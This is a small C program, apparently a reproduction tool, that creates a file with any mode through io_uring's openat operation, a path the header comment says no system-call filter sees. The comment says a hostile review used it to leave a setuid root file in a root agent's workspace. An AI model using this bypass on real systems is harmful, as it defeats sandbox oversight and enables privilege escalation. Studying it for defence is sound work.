/*
 * uring_open FILE MODE: creates FILE with MODE (octal) through io_uring's
 * IORING_OP_OPENAT, which no system-call filter sees: how a hostile
 * review left a setuid root file in a root agent's workspace.  Prints
 * "res=N" (the new descriptor, or -errno) or "setup=-errno".
 */
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int
main(int argc, char *argv[])
{
	struct io_uring_params p;
	struct io_uring_sqe *e;
	char *sq, *cq;
	int fd;

	if (argc != 3)
		return 2;
	memset(&p, 0, sizeof(p));
	if ((fd = (int)syscall(__NR_io_uring_setup, 4, &p)) == -1) {
		printf("setup=-%d\n", errno);
		return 0;
	}
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ |
	    PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries *
	    sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED |
	    MAP_POPULATE, fd, IORING_OFF_CQ_RING);
	e = mmap(NULL, p.sq_entries * sizeof(*e), PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || e == MAP_FAILED)
		return 1;
	memset(e, 0, sizeof(*e));
	e->opcode = IORING_OP_OPENAT;
	e->fd = AT_FDCWD;
	e->addr = (unsigned long)argv[1];
	e->len = (unsigned)strtoul(argv[2], NULL, 8);
	e->open_flags = O_CREAT | O_WRONLY | O_EXCL;
	((unsigned *)(void *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(void *)(sq + p.sq_off.tail), 1,
	    __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS,
	    NULL, 0) == -1)
		return 1;
	printf("res=%d\n", ((struct io_uring_cqe *)(void *)(cq +
	    p.cq_off.cqes))->res);
	return 0;
}
